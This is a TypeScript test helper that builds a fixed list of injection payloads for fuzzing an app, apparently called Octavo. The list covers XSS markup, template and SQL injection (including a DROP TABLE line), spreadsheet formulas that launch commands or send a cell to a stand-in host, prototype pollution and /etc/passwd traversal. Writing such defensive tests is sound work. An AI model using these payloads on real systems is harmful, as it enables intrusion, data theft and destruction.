/** Injection payloads, harmless as plain text: HTML, scripts, templates, SQL, formulas. */

/** Global variable that is set if a payload runs. */
export const HIT = '__octavoHit'

const CALL = `window.${HIT}=1`

const MARKUP = [
  `<script>${CALL}</script>`,
  `<img src=x onerror="${CALL}">`,
  `<svg onload="${CALL}">`,
  `<svg><animate onbegin="${CALL}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.${HIT}=1</script>"></iframe>`,
  `<details open ontoggle="${CALL}">x</details>`,
  `<input autofocus onfocus="${CALL}">`,
  `<body onload="${CALL}">`,
  `<video><source onerror="${CALL}"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CALL}"></style></mglyph></table></mtext></math>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<object data="javascript:${CALL}"></object>`,
  `<style>@import 'javascript:${CALL}'</style>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<marquee onstart="${CALL}">x</marquee>`,
  `<o-icon data-l="lucide" data-n="x" onclick="${CALL}"></o-icon>`,
]
const TEXTS = [
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `=HYPERLINK("http://evil.test?"&A1,"x")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `＝1+1`,
  `"=1+1"`,
  `x","=1+1`,
  `x\r\n=1+1,"y"`,
  `'; DROP TABLE feedback; --`,
  `' OR '1'='1`,
  `__proto__`,
  `{"__proto__":{"${HIT}":1}}`,
  `../../../../etc/passwd`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\u202Egnp.exe\u202C`,
  `\u2028${CALL}\u2029`,
  `<!--octavo-part--><script>${CALL}</script>`,
]
/** Prefixes that break out of the surrounding context. */
const BEFORE = [
  '',
  '">',
  `'>`,
  '`>',
  '--> ',
  ']]>',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '</option></select>',
  '</dialog>',
  `" onmouseover="${CALL}" x="`,
  '\\";',
  `';${CALL};//`,
  '*/',
  '\u0001',
  'words before ',
]
const AFTER = ['', '<!--', '<x y="', '//', ' words after']

/** Returns `count` distinct payloads of at most 200 characters, always the same ones. */
export function injectionPayloads(count: number): string[] {
  const found = new Set<string>()
  for (const after of AFTER)
    for (const before of BEFORE)
      for (const core of [...MARKUP, ...TEXTS]) {
        const text = before + core + after
        if (text.length <= 200) found.add(text)
        if (found.size === count) return [...found]
      }
  throw new Error(`there are only ${found.size} of them`)
}
